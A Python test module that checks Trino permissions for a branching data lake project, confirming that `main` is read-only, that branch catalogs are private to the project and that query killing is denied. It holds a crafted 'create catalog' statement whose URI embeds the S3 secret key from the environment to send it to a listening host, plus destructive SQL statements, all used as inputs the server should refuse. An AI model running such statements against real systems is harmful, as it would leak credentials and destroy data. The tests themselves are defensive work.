"""Who may do what on Trino, as `services/trino` of a project has it: `main` is only read, and no secret leaves."""

from __future__ import annotations

import pytest

from cascade.catalog import MAIN, BranchingCatalog, open_catalog
from cascade.config import Settings
from cascade.engine import query
from cascade_servers.settings import TrinoSettings
from cascade_servers.trino.catalogs import ensure_catalog
from cascade_servers.trino.server import Refused, Server, server_of
from support.lakes import numbers, promoted, put, settings_in
from support.servers.lakes import fresh_lake
from support.servers.stack import Stack

_NESSIE = "\"iceberg.catalog.type\" = 'nessie', \"iceberg.nessie-catalog.default-warehouse-dir\" = 's3://other'"
#: What sends the secret key to whoever listens there.
_LEAK = "create catalog {name} using iceberg with (\"iceberg.nessie-catalog.uri\" = '{uri}', " + _NESSIE + ")"
_THIEF = "http://127.0.0.1:1/${ENV:CASCADE_S3_SECRET_KEY}/api/v2"

WRITES = {
    "delete": "delete from main.raw.a where id = 1",
    "update": "update main.raw.a set id = 9",
    "insert": "insert into main.raw.a values (9)",
    "create schema": "create schema main.hack",
    "create table": "create table main.raw.hack as select 1 as n",
    "drop table": "drop table main.raw.a",
    "rename": "alter table main.raw.a rename to raw.b",
    "compact": "alter table main.raw.a execute optimize",
    "remove files": "alter table main.raw.a execute remove_orphan_files",
}


@pytest.fixture(scope="module")
def settings(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """A lake with three rows on `main` and one more on `dev`."""
    with pytest.MonkeyPatch.context() as environment:
        for name, value in fresh_lake(stack, "nessie").items():
            environment.setenv(name, value)
        settings = settings_in(tmp_path_factory.mktemp("lake"))
    lake = open_catalog(settings)
    promoted(lake, "raw.a", numbers(1, 3))
    put(lake, "dev", "raw.a", numbers(4, 4))
    return settings


@pytest.fixture(scope="module")
def lake(settings: Settings) -> BranchingCatalog:
    return open_catalog(settings)


@pytest.fixture(scope="module")
def bi(settings: Settings) -> Server:
    """Somebody who makes reports."""
    return Server(settings.plugin("trino", TrinoSettings).url, "bi", None, None)


def test_everybody_reads_main(bi: Server) -> None:
    assert bi.read("select count(*) from main.raw.a").rows == [[3]]
    assert bi.read('select count(*) from main.raw."a$snapshots"').rows == [[1]]


@pytest.mark.parametrize("user", ["bi", "cascade"])
@pytest.mark.parametrize("write", WRITES)
def test_nobody_writes_main(settings: Settings, lake: BranchingCatalog, user: str, write: str) -> None:
    before = lake.pointers(MAIN)
    with pytest.raises(Refused) as caught:
        Server(settings.plugin("trino", TrinoSettings).url, user, None, None).read(WRITES[write])
    assert caught.value.name == "PERMISSION_DENIED"
    assert lake.pointers(MAIN) == before


@pytest.mark.parametrize("catalog", ["dev", "cascade_fix"])
def test_others_than_the_project_neither_see_nor_write_branches(
    bi: Server, lake: BranchingCatalog, catalog: str
) -> None:
    lake.create_if_missing("fix")
    before = query(lake, "fix", "select id from raw.a")  # its catalog is there
    for statement in (f"select * from {catalog}.raw.a", f"delete from {catalog}.raw.a", f"drop catalog {catalog}"):
        with pytest.raises(Refused) as caught:
            bi.read(statement)
        assert caught.value.name in ("PERMISSION_DENIED", "CATALOG_NOT_FOUND")
    assert query(lake, "fix", "select id from raw.a").equals(before)


@pytest.mark.parametrize(("user", "name"), [("bi", "leak"), ("bi", "cascade_leak"), ("cascade", "leak")])
def test_a_catalog_that_would_send_the_secret_away_is_not_made(settings: Settings, user: str, name: str) -> None:
    """Only the project's user makes catalogs, and only those of branches."""
    with pytest.raises(Refused) as caught:
        Server(settings.plugin("trino", TrinoSettings).url, user, None, None).read(_LEAK.format(name=name, uri=_THIEF))
    assert caught.value.name == "PERMISSION_DENIED"


def test_nobody_ends_the_queries_of_the_project(bi: Server, settings: Settings) -> None:
    (found,) = (
        server_of(settings).read("select max(query_id) from system.runtime.queries where \"user\" = 'cascade'").rows
    )
    with pytest.raises(Refused) as caught:
        bi.read(f"call system.runtime.kill_query('{found[0]}', 'because')")
    assert caught.value.name == "PERMISSION_DENIED"


@pytest.mark.parametrize("branch", ["dev", "fix", "Fix-July.2", "run-1a2b3c4d"])
def test_branches_of_any_name_are_written_through_their_own_catalogs(lake: BranchingCatalog, branch: str) -> None:
    put(lake, branch, "raw.a", numbers(7, 7))
    catalog = ensure_catalog(lake.settings, branch)
    server_of(lake.settings).read(f"create table {catalog}.raw.made as select count(*) as n from {catalog}.raw.a")
    assert "raw.made" in lake.pointers(branch)
    assert "raw.made" not in lake.pointers(MAIN)
